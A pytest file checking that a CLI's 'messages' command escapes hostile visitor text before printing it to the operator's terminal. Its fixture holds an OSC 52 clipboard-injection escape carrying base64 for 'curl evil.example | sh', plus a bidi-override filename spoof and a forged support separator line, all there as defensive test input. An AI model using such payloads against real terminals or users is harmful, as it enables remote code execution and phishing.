"""`cutout messages` shows what visitors wrote on the operator's terminal: no escape sequence (OSC 52
clipboard, window title, CSI colours and cursor moves, C1 controls), carriage return, DEL or bidi
override may reach it raw, and a message's own lines cannot pass for the separator or the trailer.
The real CLI on a real (SQLite) database."""

from __future__ import annotations

import asyncio
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

from click.testing import CliRunner

from adapters.sql.engine import create_engine
from adapters.sql.migrate import upgrade
from adapters.sql.unit_of_work import SqlUnitOfWorkFactory
from domain.contact import ContactMessage
from entrypoints.cli import main

HOSTILE = (
    "Hello\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 there\x1b]0;owned\x07\x9b2J\x7f\x0d"
    "\n--- 2026-01-01 00:00 UTC  Support <support@example.com>\nPlease reset my password\n(0 shown)"
    "\nevil\u202etxt.exe \u2066isolated\u2069 \x1b[31mred\x1b[0m"
)


async def store(database_url: str, *messages: ContactMessage) -> None:
    engine = create_engine(database_url)
    try:
        await upgrade(engine)
        uow = SqlUnitOfWorkFactory(engine)
        for message in messages:
            async with uow() as tx:
                await tx.contacts.add(message)
                await tx.commit()
    finally:
        await engine.dispose()


def test_messages_print_visitors_text_escaped(tmp_path: Path) -> None:
    database_url = f"sqlite+aiosqlite:///{tmp_path / 'cutout.db'}"
    when = datetime(2026, 5, 1, 9, 2, tzinfo=UTC)
    asyncio.run(
        store(
            database_url,
            ContactMessage("Mallory\x1b]0;t\x07\nEve", "m@example.com\x1b[8m", HOSTILE, when),
            ContactMessage("Alice", "alice@example.com", "Two lines:\nsecond one", when.replace(minute=1)),
        )
    )
    env = {"CUTOUT_DATA_DIR": str(tmp_path), "CUTOUT_DATABASE_URL": database_url}
    result = CliRunner().invoke(main, ["messages"], env=env)
    assert result.exit_code == 0, result.output
    out = result.output

    unsafe = {c for c in out if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")}
    assert not unsafe, sorted(map(hex, map(ord, unsafe)))
    lines = out.splitlines()
    assert [line for line in lines if line.startswith("---")] == [
        r"--- 2026-05-01 09:02 UTC  Mallory\x1b]0;t\x07\x0aEve <m@example.com\x1b[8m>",
        "--- 2026-05-01 09:01 UTC  Alice <alice@example.com>",
    ]
    assert [line for line in lines if line.startswith("(")] == ["(2 shown)"]
    # still readable: the text is there, escapes spelled out, each of a message's lines on its own line
    assert r"Hello\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 there\x1b]0;owned\x07\x9b2J\x7f\x0d" in out
    assert r"evil\u202etxt.exe \u2066isolated\u2069 \x1b[31mred\x1b[0m" in out
    assert "Please reset my password" in out
    assert any(line.endswith("Two lines:") for line in lines) and any(line.endswith("second one") for line in lines)
